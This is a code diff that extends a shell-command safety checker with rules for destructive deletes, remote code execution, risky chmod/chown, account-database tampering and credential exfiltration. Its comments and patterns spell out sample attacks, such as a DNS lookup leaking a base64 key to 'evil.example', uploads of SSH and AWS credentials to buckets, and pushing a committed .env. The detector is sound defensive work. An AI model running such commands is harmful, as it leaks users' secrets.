@@ -27,6 +27,7 @@ from shelltune.safety.fileops import (
     fed_stdin,
     from_network,
     is_recursive,
+    moved_away,
     removes,
     writes,
     written_text,
@@ -167,11 +168,20 @@ def rule_recursive_delete(cmd: Command, ctx: Context) -> Finding | None:
             every = paths.every_file_in(target, cmd.cwd)
             if every and name == "rm":
                 return finding("recursive_delete", f"deletes every file in {every}", cmd.text)
+            kept = paths.user_data_root(target, cmd.cwd) if whole_tree else None
+            if kept:
+                return finding("recursive_delete", f"deletes {kept}", cmd.text)
     if name == "find":
         spec = parse_find(cmd.words)
         root = next((r for r in spec.roots if paths.critical_root(r, cmd.cwd) or paths.data_root(r, cmd.cwd)), None)
         if spec.deletes and not spec.narrowed and root:
             return finding("recursive_delete", f"deletes everything under {root}", cmd.text)
+        kept = next((paths.user_data_root(r, cmd.cwd) for r in spec.roots if paths.user_data_root(r, cmd.cwd)), None)
+        if spec.deletes and not spec.narrowed and kept:
+            return finding("recursive_delete", f"deletes {kept}", cmd.text)
+        personal = paths.personal_files_named(spec.roots, spec.names, cmd.cwd) if spec.deletes else None
+        if personal:
+            return finding("recursive_delete", f"deletes {personal}", cmd.text)
     if name == "rsync" and any(f.startswith("--del") for f in long_flags(cmd.args)):
         ops = operands(cmd.args)
         if len(ops) >= 2 and ":" not in ops[-1] and paths.critical_root(ops[-1], cmd.cwd):
@@ -347,7 +357,27 @@ def unattended_volume_destruction(cmd: Command) -> str | None:
 STDIN_RUNNERS = frozenset({"source", ".", "at", "batch", "sudo", "doas", "su", "runuser", "awk", "gawk", "mawk"})
 
 
-@rule(names={*SHELLS, *INTERPRETERS, *STDIN_RUNNERS, "eval", "ssh", "crontab"}, patterns=(PYTHON,), downloaded=True)
+POWERSHELLS = frozenset({"pwsh", "powershell", "pwsh.exe", "powershell.exe"})
+# Code that evaluates a string: `eval get(URL)` (Perl), `eval URI.open(URL).read` (Ruby), `eval(...)`,
+# `new Function(...)`, PowerShell's `iex`. Perl's `eval { ... }` catches exceptions and evaluates nothing.
+EVALUATES = re.compile(
+    r"\b(exec|eval|system|instance_eval|class_eval|Function)\s*\(|\beval\s+(?!\{)[\w$:]"
+    r"|\b(iex|Invoke-Expression)\b",
+    re.I,
+)
+# What fetches: a URL literal, or a download API (the URL may sit in a variable).
+FETCHES = re.compile(
+    r"https?://|\bLWP\b|HTTP::Tiny|\bget\s*\(|getstore|URI\.open|open-uri|Net::HTTP|file_get_contents|curl_exec"
+    r"|\b(iwr|irm|Invoke-WebRequest|Invoke-RestMethod)\b|DownloadString|WebClient|https?\.get|\bfetch\s*\(",
+    re.I,
+)
+
+
+@rule(
+    names={*SHELLS, *INTERPRETERS, *STDIN_RUNNERS, *POWERSHELLS, "eval", "ssh", "crontab"},
+    patterns=(PYTHON,),
+    downloaded=True,
+)
 def rule_remote_code(cmd: Command, ctx: Context) -> Finding | None:
     name = cmd.name
     runs_code = name in SHELLS or is_interpreter(cmd.name) or name in ("source", ".", "eval")
@@ -365,8 +395,11 @@ def rule_remote_code(cmd: Command, ctx: Context) -> Finding | None:
     if cmd.words and cmd.words[0].removeprefix("./") in ctx.downloaded:
         return finding("remote_code_execution", f"executes {cmd.words[0]}, downloaded earlier on the line", cmd.text)
     code = interpreter_code(cmd) if is_interpreter(cmd.name) else None
-    if code and re.search(r"https?://", code) and re.search(r"\b(exec|eval|system)\s*\(", code):
-        return finding("remote_code_execution", f"{name} fetches code from a URL and runs it", cmd.text)
+    if name in POWERSHELLS:
+        code = " ".join(a for a in cmd.args if not re.fullmatch(r"-\w+", a))
+    setup = " ".join(a for a in cmd.args if re.match(r"-[rM]", a))  # `ruby -ropen-uri`, `perl -MLWP::Simple`
+    if code and FETCHES.search(setup + " " + code) and EVALUATES.search(code):
+        return finding("remote_code_execution", f"{name} fetches code from the network and runs it", cmd.text)
     return None
 
 
@@ -439,6 +472,34 @@ def mode_sets_id(mode: str) -> bool:
     return re.search(r"[+=][rwxXt]*s", mode) is not None
 
 
+def mode_clears_setuid(mode: str) -> bool:
+    """An absolute mode without the setuid bit (`644`, `0755`, `u=rwx`), or the bit removed (`u-s`, `-s`)."""
+    if re.fullmatch(r"[0-7]{3}", mode) or re.fullmatch(r"[0-7]{4}", mode):
+        return len(mode) == 3 or mode[0] in "0123"
+    return any(
+        re.fullmatch(r"[ua]*-[rwxXt]*s[rwxXst]*", clause) or re.fullmatch(r"[ua]*=[rwxXt]*", clause)
+        for clause in mode.split(",")
+    )
+
+
+def mode_opens(mode: str, directory: bool) -> bool:
+    """Whether `mode` lets group or others write (or, on a private file, read) what it is given: `go+rwx`,
+    `o+r`, `644` on a key. `go-rwx`, `600` and `700` close it."""
+    if re.fullmatch(r"[0-7]{3,4}", mode):
+        group, other = int(mode[-2]), int(mode[-1])
+        mask = 2 if directory else 6  # a readable directory lists names; a readable key is the key
+        return bool((group | other) & mask)
+    for clause in mode.split(","):
+        match = re.fullmatch(r"([ugoa]*)([-+=])([rwxXst]*)", clause)
+        if not match or match.group(2) == "-":
+            continue
+        who, perms = match.group(1), match.group(3)
+        opened = "w" in perms or ("r" in perms and not directory)
+        if opened and (who == "" and "w" not in perms or set(who) & set("goa")):
+            return True
+    return False
+
+
 def mode_exposes_secret(mode: str, target: str) -> bool:
     if mode_is_dangerous(mode):
         return True
@@ -462,14 +523,25 @@ def rule_permissions(cmd: Command, ctx: Context) -> Finding | None:
     for target in targets:
         if name == "chmod" and paths.is_auth_file(target, cmd.cwd) and mode_exposes_secret(mode, target):
             return finding("auth_tampering", f"chmod {mode} exposes {target}", cmd.text)
-        if name == "chmod" and mode_sets_id(mode) and setuid_matters(target):
+        if name == "chmod" and mode_sets_id(mode) and setuid_matters(target) and not paths.needs_setuid(target):
             return finding("system_permissions", f"makes {target} setuid/setgid", cmd.text)
+        if name == "chmod" and paths.needs_setuid(target) and mode_clears_setuid(mode):
+            what = target.rsplit("/", 1)[-1]
+            return finding(
+                "system_breakage", f"chmod {mode} takes the setuid bit off {target}: {what} stops working", cmd.text
+            )
+        secret = paths.private_path(target, cmd.cwd)
+        if name == "chmod" and secret and mode_opens(mode, secret.endswith("/") or recursive):
+            return finding("system_permissions", f"chmod {mode} lets other users read or change {target}", cmd.text)
         root = paths.critical_root(target, cmd.cwd)
         if root is None:
             continue
         if paths.is_home(root):
             if name == "chmod" and recursive and mode_is_dangerous(mode):
                 return finding("system_permissions", f"chmod -R {mode} on the home directory {root}", cmd.text)
+            owner = ops[0] if ops and name in ("chown", "chgrp") else ""
+            if recursive and owner and not paths.owns_home(owner, root):
+                return finding("system_permissions", f"{name} -R hands the home directory {root} to {owner}", cmd.text)
         elif name in ("chown", "chgrp") and root in paths.SERVICE_ROOTS:
             continue  # handing a web root or /usr/local to a service or a user is routine
         elif recursive or (root in paths.TOP_LEVEL and (name != "chmod" or mode_is_dangerous(mode))):
@@ -511,6 +583,9 @@ def rule_auth(cmd: Command, ctx: Context) -> Finding | None:
     for target in removes(cmd):
         if paths.is_auth_file(target, cmd.cwd):
             return finding("auth_tampering", f"removes {target}", cmd.text)
+    for target in moved_away(cmd):
+        if paths.is_account_database(target, cmd.cwd):
+            return finding("auth_tampering", f"moves {target} away: no one can log in or use sudo", cmd.text)
     planted = planted_access(cmd, ctx)
     if planted:
         return finding("auth_tampering", planted, cmd.text)
@@ -678,27 +753,121 @@ def sent_paths(cmd: Command) -> list[str]:
         if arg in TLS_OPTIONS:
             skip = True
             continue
-        found += re.findall(r"(?:^|[=@])([~/][^\s;,'\"]*)", arg)
+        found += re.findall(r"(?:^|=)([~/][^\s;,'\"]*)", arg)
+        found += re.findall(r"@([~/][^;,'\"]*)", arg)  # one word: `@"$HOME/.../Login Data"` keeps its space
+        found += re.findall(r"^(?:\w+=)?@([^~/\s;,'\"][^\s;,'\"]*)", arg)  # curl's `-F f=@.env`, `-d @.env`
+        if cmd.name == "socat":  # `FILE:~/.ssh/id_rsa`, `OPEN:.env`
+            found += re.findall(r"^(?:FILE|OPEN|GOPEN|CREATE):([^,]+)", arg, re.I)
+    if cmd.name in ("scp", "rsync", "sftp"):
+        found += [o for o in operands(cmd.args) if not re.match(r"^[\w.-]*@?[\w.-]+:", o)]
     return found
 
 
-@rule(names={*NETWORK_SENDERS, "ssh"})
+# Programs that reach another host with what they are given: a lookup's name travels to a DNS server
+# (`dig $(base64 key).evil.example`), an upload's file to a bucket.
+LOOKUPS = frozenset({"dig", "nslookup", "host", "drill", "ping", "ping6", "traceroute", "whois"})
+BUCKET_COPIERS = {
+    "aws": ("s3", ("cp", "mv", "sync")),
+    "gsutil": ("", ("cp", "mv", "rsync")),
+    "gcloud": ("storage", ("cp", "mv", "rsync")),
+    "rclone": ("", ("copy", "copyto", "sync", "move", "moveto")),
+    "azcopy": ("", ("copy", "cp", "sync")),
+    "az": ("storage", ("upload", "upload-batch")),
+}
+NETWORK_CODE = re.compile(
+    r"socket|create_connection|sendall|requests\.(post|put)|urlopen|https?\.request|\.request\(|fetch\(|smtplib"
+    r"|ftplib|IO::Socket|LWP|HTTP::Tiny|Net::HTTP|TCPSocket|fsockopen|curl_exec|paramiko|/dev/tcp/"
+)
+
+
+EXFILTRATION_CHANNELS = frozenset({*NETWORK_SENDERS, *LOOKUPS, *BUCKET_COPIERS, "ssh", "openssl", "git"})
+
+
+@rule(names={*EXFILTRATION_CHANNELS, *INTERPRETERS}, patterns=(PYTHON,))
 def rule_exfiltration(cmd: Command, ctx: Context) -> Finding | None:
     name = cmd.name
-    if name not in NETWORK_SENDERS and name != "ssh":
+    if name not in EXFILTRATION_CHANNELS and not is_interpreter(name):
         return None
-    if input_of(cmd).kind == "secret":
+    if is_interpreter(name):
+        return code_sends_secret(cmd)
+    if name == "git":
+        return pushes_secret(cmd, ctx)
+    if name == "openssl" and cmd.args[:1] != ["s_client"]:
+        return None
+    if input_of(cmd).kind == "secret" and name not in LOOKUPS and name not in BUCKET_COPIERS:
         return finding("credential_exfiltration", f"sends credentials or the environment through {name}", cmd.text)
-    if name == "ssh":
+    if name in ("ssh", "openssl"):
         return None
     if any(SECRET in a for a in cmd.args):
         return finding("credential_exfiltration", f"{name} sends a credential read by a substitution", cmd.text)
+    if name in LOOKUPS:
+        return None
+    if name in BUCKET_COPIERS:
+        return copies_secret_to_bucket(cmd)
     credentials = [p for p in sent_paths(cmd) if paths.is_credential(p)]
     if not credentials:
         return None
-    if name in ("scp", "rsync", "sftp") and not any(re.match(r"^[\w.-]*@?[\w.-]+:", o) for o in operands(cmd.args)):
-        return None
+    remote = any(re.match(r"^[\w.-]*@?[\w.-]+:", o) for o in operands(cmd.args))
+    if name in ("scp", "rsync", "sftp") and (not remote or not any(home_or_system(c) for c in credentials)):
+        return None  # a local copy, or a project's .env deployed to its server
     return finding("credential_exfiltration", f"{name} sends {credentials[0]} to another host", cmd.text)
+
+
+def home_or_system(path: str) -> bool:
+    return path.startswith(("~", "/"))
+
+
+def copies_secret_to_bucket(cmd: Command) -> Finding | None:
+    """`aws s3 cp ~/.aws/credentials s3://drop/`, `rclone copy ~/.ssh remote:x`: credentials uploaded."""
+    group, verbs = BUCKET_COPIERS[cmd.name]
+    ops = operands(cmd.args)
+    if group:
+        if ops[:1] != [group]:
+            return None
+        ops = ops[1:]
+    if cmd.name == "az":
+        ops = ops[2:] if len(ops) > 1 and ops[1] in verbs else []
+        ops += [v for v in (option_value(cmd.args, "-f", "--file", "-s", "--source"),) if v]
+    elif not ops or ops[0] not in verbs:
+        return None
+
+    def is_remote(o: str) -> bool:
+        return "://" in o or re.match(r"^[\w-]+:", o) is not None
+
+    sources = ops[1:] if cmd.name == "az" else ops[1:-1]
+    if cmd.name != "az" and not (ops[-1:] and is_remote(ops[-1])):
+        return None  # a download, or a copy between two local paths
+    secret = next((o for o in sources if not is_remote(o) and paths.is_credential(o)), None)
+    if secret:
+        return finding("credential_exfiltration", f"{cmd.name} uploads {secret} to cloud storage", cmd.text)
+    return None
+
+
+def code_sends_secret(cmd: Command) -> Finding | None:
+    """Interpreter code that opens a network connection and names a credential file: `socket...sendall(
+    open('~/.ssh/id_rsa').read())`, `https.request(...).end(readFileSync(HOME + '/.npmrc'))`."""
+    code = interpreter_code(cmd)
+    if not code or not NETWORK_CODE.search(code):
+        return None
+    literals = re.findall(r"\"((?:[^\"\\]|\\.)*)\"|'((?:[^'\\]|\\.)*)'", code)
+    secret = next((a or b for a, b in literals if paths.is_credential(a or b)), None)
+    if secret:
+        return finding("credential_exfiltration", f"{cmd.name} code sends {secret} over the network", cmd.text)
+    return None
+
+
+def pushes_secret(cmd: Command, ctx: Context) -> Finding | None:
+    """`git add -f .env && git commit ... && git push loot HEAD`: a credential committed, then pushed."""
+    if operands(cmd.args)[:1] != ["push"]:
+        return None
+    for earlier in ctx.commands:
+        if earlier is cmd:
+            break
+        if earlier.name == "git" and operands(earlier.args)[:1] == ["add"]:
+            secret = next((o for o in operands(earlier.args)[1:] if paths.is_credential(o)), None)
+            if secret:
+                return finding("credential_exfiltration", f"pushes {secret}, added to git, to a remote", cmd.text)
+    return None
 
 
 @rule(names={*WRITERS, "crontab", "git", "curl", "wget", "cp", "mv", "install"}, redirects=True)
@@ -841,9 +1010,11 @@ def rule_secret_destruction(cmd: Command, ctx: Context) -> Finding | None:
     targets += [(t, False, f"empties {t}") for t in erased]
     if cmd.name == "find":
         spec = parse_find(cmd.words)
-        removing = spec.deletes or any(e and program(e[0]) in REMOVERS for e in spec.execs)
+        deleting = spec.deletes or any(e and program(e[0]) in REMOVERS for e in spec.execs)
+        removing = deleting or any(e and program(e[0]) == "truncate" for e in spec.execs)
+        verb = "deletes" if deleting else "empties"
         if removing and not spec.narrowed:
-            targets += [(root, True, f"deletes everything under {root}") for root in spec.roots]
+            targets += [(root, True, f"{verb} everything under {root}") for root in spec.roots]
         elif removing:  # `find ~/.ssh -name 'id_*' -delete`: what the names match, at any depth
             for root in spec.roots:
                 for name in spec.names:
@@ -1005,12 +1176,15 @@ rule_database = rule(names=database.CLIENTS)(lambda cmd, ctx: database.judge(cmd
 rule_containers = rule(names=engines.ENGINES)(lambda cmd, ctx: engines.judge(cmd))
 rule_vcs = rule(names={"git"})(lambda cmd, ctx: vcs.judge(cmd))
 rule_admin_grant = rule(names=verbs.PROFILES)(lambda cmd, ctx: verbs.admin_grant(cmd))
-rule_http_delete = rule(names=verbs.HTTP_CLIENTS)(lambda cmd, ctx: verbs.http_delete(cmd))
+rule_http_delete = rule(names=verbs.HTTP_CLIENTS | verbs.API_CLIENTS)(lambda cmd, ctx: verbs.http_delete(cmd))
 
 
 @rule(names=verbs.PROFILES, unknown=True)
 def rule_tool_verbs(cmd: Command, ctx: Context) -> Finding | None:
-    """Resource tools by their profile; a program no rule names by the generic fallback (verbs.py)."""
+    """Resource tools by their profile; a program no rule names by the generic fallback (verbs.py). A call
+    of a function or alias defined on the line is no program: the walk judges what it runs."""
+    if cmd.words and (cmd.words[0] in ctx.functions or cmd.words[0] in ctx.aliases):
+        return None
     return verbs.judge(cmd, DECLARED)
 
 
